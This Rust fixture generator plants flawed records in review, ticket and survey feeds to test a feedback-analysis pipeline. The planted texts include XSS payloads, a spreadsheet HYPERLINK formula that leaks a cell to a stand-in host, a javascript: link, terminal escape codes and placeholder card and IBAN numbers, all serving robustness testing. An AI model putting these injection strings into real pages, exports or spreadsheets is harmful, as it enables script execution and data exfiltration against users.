//! What is wrong with real exports, a little of each, on purpose.
//!
//! Takes a place in a feed, gives the flawed lines that stand there. Each is named in
//! `fixtures/README.md` with what a reader has to make of it. Ids from 900001 on are flaws.

use std::fmt::Write as _;

use crate::model::Day;

use super::people::Customer;
use super::write::{Form, Ticket, push_form, push_row, push_ticket};
use super::{Feed, QUESTIONS, Truth};

/// Appends the flaws that follow record `at` of `count`: they are spread evenly over the feed.
pub fn after(
    feed: Feed,
    at: u64,
    count: u64,
    day: Day,
    line: &mut String,
    plant: &mut dyn FnMut(Truth),
) {
    let steps = match feed {
        Feed::Reviews => 11,
        Feed::Tickets => 9,
        Feed::Survey => 4,
    };
    for step in 0..steps {
        if at == count * (step + 1) / (steps + 1) {
            match feed {
                Feed::Reviews => review(step, day, line, plant),
                Feed::Tickets => ticket(step, day, line, plant),
                Feed::Survey => form(step, day, line, plant),
            }
        }
    }
}

fn review(step: u64, day: Day, line: &mut String, plant: &mut dyn FnMut(Truth)) {
    let id = format!("R-{}", 900_001 + step);
    let date = format!("{day} 10:00:00");
    let mut row = |id: &str, date: &str, stars: &str, text: &str, changed: &str| {
        let cells = [id, date, stars, "", text, "flawed", "GB", "5.4", "Android", changed];
        push_row(&cells, line);
    };
    let themes: &[&'static str] = match step {
        0 => {
            // Too few cells: the export was cut while this row was written.
            let _ = writeln!(line, "{id},{date},2,Cut off,The search is so slow that");
            return;
        }
        1 => {
            // Too many cells: somebody joined columns by hand and forgot the quotes.
            let _ = writeln!(
                line,
                "{id},{date},1,Twice,I was charged twice, two times, and nobody answers,flawed,GB,\
                 5.4,Android,"
            );
            return;
        }
        2 => {
            // The thirteenth month, hour 25.
            row(&id, "2026-13-41 25:61:00", "1", "The app crashes when I pay.", "");
            return;
        }
        3 => {
            row(&id, &date, "4", "", "");
            return;
        }
        4 => {
            // First version; the next step brings the second under the same id.
            row("R-900005", &date, "1", "The refund never came.", "");
            return;
        }
        5 => {
            let text = "Update: the refund has arrived after six weeks. It took far too long, but \
                        support was kind.";
            row("R-900005", &format!("{} 10:00:00", day.plus(-20)), "3", text, &date);
            plant(truth("reviews", "R-900005".into(), None, &["refund_slow", "support_great"]));
            return;
        }
        6 => {
            let text = "<script>alert('pwned')</script><b>The app crashes</b> at checkout \
                        &amp; <img src=x onerror=alert(1)> nobody cares";
            row(&id, &date, "1", text, "");
            &["android_crash"]
        }
        7 => {
            let text = "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"I was charged twice, \
                        click here\")";
            row(&id, &date, "1", text, "");
            &["double_charge"]
        }
        8 => {
            let text = "\u{1b}[31mThe battery is empty by noon\u{1b}[0m \u{1b}]0;owned\u{7} \
                        \u{202e}and the phone gets hot\u{202c}";
            row(&id, &date, "2", text, "");
            &["battery"]
        }
        9 => {
            let text = "| Price | changed |\n|---|---|\n![pixel](http://example.invalid/p.png) \
                        [free trip](javascript:alert(1)) the price changed at checkout\r\n# Big";
            row(&id, &date, "1", text, "");
            &["price_jump"]
        }
        _ => {
            // Zero stars do not exist on a scale from 1 to 5.
            row(&id, &date, "0", "Dark mode is missing and the white screen hurts.", "");
            &["dark_mode"]
        }
    };
    plant(truth("reviews", id, None, themes));
}

fn ticket(step: u64, day: Day, line: &mut String, plant: &mut dyn FnMut(Truth)) {
    let id = format!("FW-{}", 900_001 + step);
    let created = format!("{day}T10:00:00Z");
    let later = format!("{}T08:00:00Z", day.plus(2));
    let customer = Customer::numbered(0, 3);
    let ticket = |id: &str, created: &str, updated: &str, status: &str, body: &str| {
        let mut one = String::new();
        push_ticket(
            &Ticket {
                id,
                created,
                updated,
                status,
                channel: "email",
                subject: "",
                body,
                customer: &customer,
                version: "5.4",
                csat: None,
            },
            &mut one,
        );
        one
    };
    let themes: &[&'static str] = match step {
        0 => {
            // Half a line, as a full disk leaves it.
            let whole = ticket(&id, &created, &created, "open", "The login code never arrives.");
            let half = whole.get(..whole.len() / 2).unwrap_or_default();
            let _ = writeln!(line, "{half}");
            return;
        }
        1 => {
            line.push('\n');
            return;
        }
        2 => {
            // The same complaint sent again two days later: two tickets, one voice.
            let body = "I booked one room at Hotel Linde and two payments of €212 left my account. \
                        The bank says both are final. Please return the second payment.";
            line.push_str(&ticket(&id, &created, &created, "open", body));
            let again = format!("{id}-again");
            line.push_str(&ticket(&again, &later, &later, "open", body));
            plant(truth("tickets", again, None, &["double_charge"]));
            &["double_charge"]
        }
        3 => {
            // A newer version under the same id replaces the older.
            line.push_str(&ticket(&id, &created, &created, "open", "The PDF export is broken."));
            let body = "The PDF export is broken: blank pages for every trip with more than ten \
                        days. I tried three browsers.";
            line.push_str(&ticket(&id, &created, &later, "pending", body));
            &["pdf_export"]
        }
        4 => {
            // Deleted: whoever quotes it ignores the wish of the customer.
            line.push_str(&ticket(&id, &created, &created, "open", "Please forget me and this."));
            line.push_str(&ticket(&id, &created, &later, "deleted", ""));
            return;
        }
        5 => {
            let body = "Cheap watches, best prices, click now!!!";
            line.push_str(&ticket(&id, &created, &created, "spam", body));
            return;
        }
        6 => {
            let body = "My refund of €340 for the cancelled flight is missing since March. Write to \
                        ruth.testfall@example.org or call +44 20 7946 0958, the card was 4111 1111 \
                        1111 1111, IBAN DE75 5121 0800 1245 1261 99.";
            line.push_str(&ticket(&id, &created, &created, "open", body));
            &["refund_slow"]
        }
        7 => {
            line.push_str(&ticket(&id, &created, &created, "open", ""));
            return;
        }
        _ => {
            let body =
                "\u{1b}[2J\u{1b}[HThe chatbot runs in circles\u{0} and I cannot reach a human.";
            line.push_str(&ticket(&id, &created, &created, "open", body));
            &["chatbot_loop"]
        }
    };
    plant(truth("tickets", id, None, themes));
}

fn form(step: u64, day: Day, line: &mut String, plant: &mut dyn FnMut(Truth)) {
    let id = format!("S-{}", 900_001 + step);
    let at = format!("{day} 10:00");
    let customer = Customer::numbered(0, 4);
    let mut row = |texts: [&str; 2]| {
        push_form(&Form { id: &id, at: &at, customer: &customer, nps: 6, texts }, "5.4", line);
    };
    let text = match step {
        0 => {
            // The button pressed twice: the same form again.
            row(["Add offline maps, please", ""]);
            row(["Add offline maps, please", ""]);
            plant(truth("survey", id, Some(QUESTIONS[0]), &["offline_maps"]));
            return;
        }
        1 => "   ",
        2 => "n/a",
        _ => {
            row(["The text is too small,\nthe contrast too low", "\"everything else\""]);
            plant(truth("survey", id.clone(), Some(QUESTIONS[0]), &["font_size"]));
            plant(truth("survey", id, Some(QUESTIONS[1]), &[]));
            return;
        }
    };
    row([text, ""]);
}

fn truth(
    source: &'static str,
    record: String,
    question: Option<&'static str>,
    themes: &[&'static str],
) -> Truth {
    Truth { source, record, question, themes: themes.to_vec() }
}
